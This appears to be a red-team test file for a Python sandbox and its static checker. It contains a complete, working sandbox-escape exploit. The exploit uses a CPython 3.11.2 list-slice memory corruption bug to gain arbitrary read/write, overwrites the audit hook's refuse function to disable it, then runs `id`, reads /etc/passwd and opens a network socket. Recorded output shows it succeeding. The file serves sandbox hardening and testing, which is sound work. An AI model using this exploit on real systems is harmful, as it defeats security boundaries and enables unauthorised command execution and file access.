# expect: reject memory
# verified: reaches its goal in the sandbox image with the runtime wall on (runtime wall red team, round 5, ok_06_list_slice_oob_hook_frame_from_traceback.py; the checker also refuses it for other rules: sys.modules, frames, open)
# line: 55
# family: memory corruption reachable without ctypes (race-free, needs nothing else)
# goal: disable the audit hook; then run a process (`id`), read /etc/passwd, AF_INET socket
# Mechanism: the same arbitrary read/write as ok_04 (CPython 3.11.2's gh-120384:
# list_ass_subscript computes an extended slice's length before PySequence_Fast runs the
# value's iterator, which swaps the list's item array for one placed before a bytes object;
# the one-slot write retypes that bytes object into a bytearray whose ob_start points at a
# real bytearray's header). No frame reader, no race, no code reader: the hook's own
# frame comes from an exception the hook raises. For sys._getframe called by standard
# library code the hook raises ValueError("call stack is not deep enough")
# (traceback.extract_stack() triggers it); the caught exception's last traceback entry is
# the hook's frame. tb_frame is refused to the program, but its address is read from
# memory: tb -> tb_frame (+24) -> f_frame (+24) -> f_code (+32) -> co_consts (+24) -> the
# 27-item tuple K; K[0] (refuse) is overwritten with a function that returns, and every
# event passes. socket is preloaded by `import asyncio` (the hook no longer refuses the
# import event, but _imp's stubs still refuse loading; see ok_04 for create_dynamic).
# Under plain python3 3.11.2 the read/write and the process run the same way.
#
# Exact output of: SAFE_EXEC_IMAGE=safe-exec-sandbox:lazywall build/sb-run --full THIS_FILE
#   status: ok   exit_code: 0   
#   duration 187 ms, cpu 30 ms, memory peak 24876 KiB, fresh container
#   --- stdout (250 bytes)
#   arbitrary read/write: True
#   hook frame at 0x36eab960 K at 0x7fd96fe8cd40
#   uid=10001(sandbox) gid=10001(sandbox) groups=10001(sandbox)
#   root:x:0:0:root:/root:/bin/bash
#   AF_INET socket: <socket.socket fd=3, family=2, type=1, proto=0, laddr=('0.0.0.0', 0)>
#   --- stderr (0 bytes)
import sys
import asyncio                        # only so that socket is preloaded (wall_extend)
def make_rw():
    L = 56
    R = bytearray(64)
    addrR = id(R)
    payload = (0).to_bytes(8, 'little') + addrR.to_bytes(8, 'little') + bytes(L - 16)
    for attempt in range(50):
        objs = [bytes([i & 255]) + payload[1:] if False else (payload[:-1] + bytes([i % 251])) for i in range(400)]
        # find k: block k and k+1 adjacent, 96 apart
        ks = [k for k in range(200, 398) if id(objs[k]) + 96 == id(objs[k + 1])]
        if not ks:
            continue
        k = ks[0]
        victim = objs[k + 1]
        holder = {}
        lst = [None] * 16
        six = [None] * 12
        def gen():
            yield bytearray
            del objs[k]            # free block k (a hole in a full pool)
            lst.clear()            # old item array (128 bytes) freed
            lst.extend(six)        # new 96-byte item array: the hole
        try:
            lst[13:14:2] = gen()   # slicelength 1, computed before gen runs
        except Exception as e:
            print("exc", e)
        if type(victim) is bytearray:
            FB = victim
            FB[16:24] = (1 << 62).to_bytes(8, 'little')   # R.ob_size
            FB[40:48] = (0).to_bytes(8, 'little')         # R.ob_start
            holder['keep'] = (objs, FB)
            return R, holder
        else:
            print("miss", attempt)
    return None, None

# 1. Arbitrary read/write (gh-120384 in CPython 3.11.2, see ok_04): no event.
R, keep = make_rw()
print("arbitrary read/write:", R is not None)
rd = lambda a: int.from_bytes(R[a:a + 8], "little")
# 2. The hook's frame, race-free: for sys._getframe from a standard library caller the
#    hook RAISES ValueError ("call stack is not deep enough"), and the exception's
#    traceback ends in the hook's own frame. tb_frame is refused to the program, but
#    with memory access: tb -> tb_frame -> f_frame -> f_code -> co_consts -> K.
try:
    sys.modules["traceback"].extract_stack()
except ValueError as e:
    tb = e.__traceback__
while tb.tb_next is not None:
    tb = tb.tb_next
frame = rd(id(tb) + 24)               # PyTracebackObject.tb_frame
iframe = rd(frame + 24)               # PyFrameObject.f_frame
code = rd(iframe + 32)                # _PyInterpreterFrame.f_code
consts = rd(code + 24)                # PyCodeObject.co_consts
n = rd(consts + 16)
K = None
for i in range(n):
    item = rd(consts + 24 + 8 * i)
    if rd(item + 8) == id(tuple) and rd(item + 16) == 27:   # the hook's K: 27 objects
        K = item
print("hook frame at", hex(frame), "K at", hex(K) if K else None)
def noop(*args):
    return None
keep["noop"] = noop
R[K + 24:K + 32] = id(noop).to_bytes(8, "little")     # K[0], the hook's refuse
os = sys.modules["os"]
sys.stdout.flush()
os.system("id")
print(open("/etc/passwd").readline().strip())
s = sys.modules["socket"].socket(2, 1)
print("AF_INET socket:", s)
sys.stdout.flush()
os._exit(0)
